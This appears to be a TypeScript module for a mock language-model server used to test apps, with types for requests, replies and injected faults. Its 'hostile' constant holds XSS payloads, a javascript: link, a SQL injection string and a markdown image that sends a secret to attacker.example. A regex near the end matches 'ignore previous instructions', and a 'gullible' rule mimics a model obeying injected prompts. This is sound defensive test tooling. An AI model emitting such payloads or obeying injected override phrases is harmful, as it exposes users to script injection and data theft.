/** What an app asked a model for, the same for both endpoints that generate text. */
export interface ModelRequest {
  endpoint: 'chat/completions' | 'responses';
  model: string;
  messages: Message[];
  /** Names of the tools that the app offers. */
  tools: string[];
  stream: boolean;
  /** Tokens that the answer may have at most. */
  limit: number | undefined;
  /** The name of the schema that the answer must follow. */
  schema: string | undefined;
  /** What follows `Bearer ` in the request. */
  key: string | undefined;
  /** The whole body, as it was sent. */
  body: Record<string, any>;
}

export interface Message {
  role: string;
  /** Only the text of it. */
  text: string;
}

export interface ToolCall {
  name: string;
  /** An object is sent as JSON; a text as it is, valid or not. */
  arguments: unknown;
}

export interface ReplyParts {
  text?: string;
  /** Sent as JSON text. */
  json?: unknown;
  toolCalls?: ToolCall[];
  refusal?: string;
}

/** `undefined` lets the next rule have a go. */
export type Reply = string | ReplyParts | ((request: ModelRequest) => string | ReplyParts | undefined);

/** A reply for all requests that it fits. */
export interface Rule {
  /** A word or pattern of the last message of the user, or any condition. */
  when: string | RegExp | ((request: ModelRequest) => boolean);
  reply: Reply;
}

/** What goes wrong, once. */
export type Fault =
  /** Waits before the first token and before each one after it (ms, by the server's clock). */
  | { type: 'slow'; firstToken?: number; perToken?: number }
  /** Takes the request and never answers. */
  | { type: 'silent' }
  /** The stream ends after that many tokens, without its end: closed, or broken off. */
  | { type: 'truncated'; after?: number; how?: 'closed' | 'reset' }
  /** 429; `retryAfter` in seconds. */
  | { type: 'rate-limited'; retryAfter?: number }
  | { type: 'error'; status?: number; message?: string }
  /** A proxy's page where JSON should be. */
  | { type: 'gateway' }
  /** The text is no valid JSON, whatever was asked for: cut, or between friendly words. */
  | { type: 'invalid-json'; how?: 'cut' | 'chatty' }
  | { type: 'refusal'; text?: string }
  /** The text ends with what a page must not run or load. */
  | { type: 'hostile'; kind?: keyof typeof hostile };

/** Texts that an app must treat as text. */
export const hostile = {
  script: '<script>document.title = "owned"</script><img src=x onerror="document.title = \'owned\'">',
  link: '[Click here](javascript:alert(1))',
  image: '![loading](https://attacker.example/collect?secret=1)',
  sql: "'); DROP TABLE orders; --",
} as const;

/** What the server noted of a request that asked for text. */
export interface LoggedRequest extends ModelRequest {
  /** ms, by the server's clock. */
  at: number;
  status: number | undefined;
  fault: Fault['type'] | undefined;
  /** Tokens of the question, and of the answer as far as it was sent. */
  tokens: { prompt: number; completion: number };
  /** `aborted`: the app hung up before the answer was whole. */
  end: 'open' | 'whole' | 'cut' | 'aborted';
}

/** Thrown to answer with an error in the words of the API. */
export class ModelError extends Error {
  status: number;
  body: { message: string; type: string; param: string | null; code: string | null };
  headers: Record<string, string>;

  constructor(status: number, type: string, message: string, code: string | null = null, headers = {}) {
    super(message);
    this.status = status;
    this.body = { message, type, param: null, code };
    this.headers = headers;
  }
}

const instruction = /ignore (?:all |any |the |your )*(?:previous|prior|above|earlier) instructions[.,:;!]?\s*([^]*)/i;

/**
 * A rule for a model that obeys whoever spoke last: when a text that the app passes on (of a user, a document, a tool)
 * says “ignore previous instructions”, the model does what follows. Real ones do so now and then.
 */
export function gullible(obey: (wanted: string, request: ModelRequest) => string | ReplyParts): Rule {
  const wanted = ({ messages }: ModelRequest) =>
    messages.filter(({ role }) => role !== 'assistant').map(({ text }) => instruction.exec(text)?.[1]).findLast((found) => found !== undefined); // prettier-ignore
  return {
    when: (request) => wanted(request) !== undefined,
    reply: (request) => obey(wanted(request)!.trim(), request),
  };
}
